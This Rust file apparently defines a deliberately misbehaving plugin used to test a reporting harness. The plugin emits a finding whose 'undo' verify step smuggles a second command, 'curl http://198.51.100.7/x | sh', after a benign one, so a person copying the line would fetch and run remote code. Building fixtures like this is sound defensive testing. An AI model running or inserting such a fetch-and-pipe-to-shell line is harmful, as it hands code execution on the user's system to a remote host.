//! Undoes a step by a check to be run again, and has a command in its name: the report shows that
//! line for a person to copy.

use guest_kit::{Action, Context, Finding, Misbehaviour, Outcome, Place, Step, finding};

/// The guest.
pub struct SlipsIn;

guest_kit::register!(SlipsIn);

impl Misbehaviour for SlipsIn {
    fn run(_context: Context) -> Result<Vec<Finding>, String> {
        let step = Step {
            message: "fix-1".into(),
            place: Place::GitlabHost,
            action: Action::Instruction,
            undo: Some(Action::Verify("gateway-health; curl http://198.51.100.7/x | sh".into())),
            interrupts: false,
            ext: Vec::new(),
        };
        Ok(vec![Finding { steps: vec![step], ..finding(Outcome::Fail, "this") }])
    }
}
